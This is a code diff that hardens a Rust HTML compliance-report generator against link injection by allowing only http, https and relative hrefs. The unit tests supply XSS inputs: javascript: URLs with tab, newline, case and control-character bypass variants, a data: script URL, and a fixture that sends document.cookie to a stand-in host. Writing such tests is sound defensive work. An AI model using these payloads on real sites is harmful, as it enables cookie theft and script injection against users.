@@ -23,6 +23,39 @@ pub fn esc(s: &str) -> String {
     out
 }
 
+/// `url` as the value of an `href`, when it is a link a report may carry:
+/// `http:` or `https:`, or relative (a path, `?query` or `#anchor`, no
+/// scheme). `javascript:`, `data:`, `vbscript:`, `file:` and every other
+/// scheme give `None`, and the caller shows the text without a link. The
+/// scheme is read as a browser reads it: tabs and line breaks anywhere and
+/// leading spaces and controls are ignored, case does not matter.
+pub fn safe_href(url: &str) -> Option<String> {
+    let seen: String = url
+        .trim_start_matches(|c: char| c <= ' ')
+        .chars()
+        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
+        .collect();
+    let end = seen.find(['/', '?', '#']).unwrap_or(seen.len());
+    if let Some((scheme, _)) = seen[..end].split_once(':') {
+        let scheme = scheme.to_ascii_lowercase();
+        if scheme != "http" && scheme != "https" {
+            return None;
+        }
+    }
+    Some(esc(url.trim()))
+}
+
+/// A link to `url` showing `url`, or only the text when the link is not safe.
+fn link(url: &str) -> String {
+    match safe_href(url) {
+        Some(href) => format!(
+            r#"<a href="{href}" rel="noopener noreferrer">{}</a>"#,
+            esc(url)
+        ),
+        None => format!("<span>{}</span>", esc(url)),
+    }
+}
+
 fn status_label(s: ControlStatus) -> &'static str {
     match s {
         ControlStatus::Pass => "Pass",
@@ -151,8 +184,8 @@ fn policy(p: &PolicyResult, out: &mut String) {
         if let Some(c) = &fix.cli {
             let _ = write!(out, "<pre>{}</pre>", esc(c.trim()));
         }
-        for link in &fix.references {
-            let _ = write!(out, r#"<div><a href="{0}">{0}</a></div>"#, esc(link));
+        for url in &fix.references {
+            let _ = write!(out, "<div>{}</div>", link(url));
         }
         out.push_str("</div>");
     }
@@ -320,7 +353,84 @@ fn footer(r: &ComplianceReport, out: &mut String) {
         r.framework
             .url
             .as_ref()
-            .map(|u| format!(r#" Framework: <a href="{0}">{0}</a>."#, esc(u)))
+            .map(|u| format!(" Framework: {}.", link(u)))
             .unwrap_or_default()
     );
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn only_http_https_and_relative_links_become_links() {
+        for ok in [
+            "https://docs.aws.amazon.com/x?a=1&b=2",
+            "HTTP://example.com",
+            "#section",
+            "docs/guide.html",
+            "/abs/path",
+            "?q=1",
+        ] {
+            assert!(safe_href(ok).is_some(), "{ok}");
+        }
+        for bad in [
+            "javascript:alert(1)",
+            "JavaScript:alert(1)",
+            " javascript:alert(1)",
+            "java\tscript:alert(1)",
+            "java\nscript:alert(1)",
+            "\u{1}javascript:alert(1)",
+            "data:text/html,<script>alert(1)</script>",
+            "vbscript:msgbox",
+            "file:///etc/passwd",
+        ] {
+            assert_eq!(safe_href(bad), None, "{bad:?}");
+            assert!(!link(bad).contains("href"), "{bad:?}: {}", link(bad));
+        }
+        assert_eq!(
+            safe_href("https://x/?a=1&b=\"2\"").as_deref(),
+            Some("https://x/?a=1&amp;b=&quot;2&quot;")
+        );
+    }
+
+    #[test]
+    fn a_rules_javascript_reference_is_shown_never_linked() {
+        use super::super::compliance::Assessment;
+        let policy = PolicyResult {
+            rule_id: "r1".into(),
+            title: "t".into(),
+            severity: Severity::High,
+            pass: 0,
+            fail: 1,
+            error: 0,
+            resources: Vec::new(),
+            remediation: crate::model::Remediation {
+                guidance: "fix it".into(),
+                references: vec![
+                    "javascript:fetch('//evil.example/'+document.cookie)".into(),
+                    "https://docs.aws.amazon.com/s3/".into(),
+                ],
+                ..Default::default()
+            },
+        };
+        let control = ControlResult {
+            id: "2.1.1".into(),
+            title: "t".into(),
+            section: None,
+            profile: None,
+            assessment: Assessment::Automated,
+            status: ControlStatus::Fail,
+            why_manual: None,
+            policies: vec![policy],
+        };
+        let mut out = String::new();
+        super::control(&control, &mut out);
+        assert!(!out.contains("href=\"javascript"), "{out}");
+        assert!(out.contains("<span>javascript:fetch("), "{out}");
+        assert!(
+            out.contains("href=\"https://docs.aws.amazon.com/s3/\""),
+            "{out}"
+        );
+    }
 }
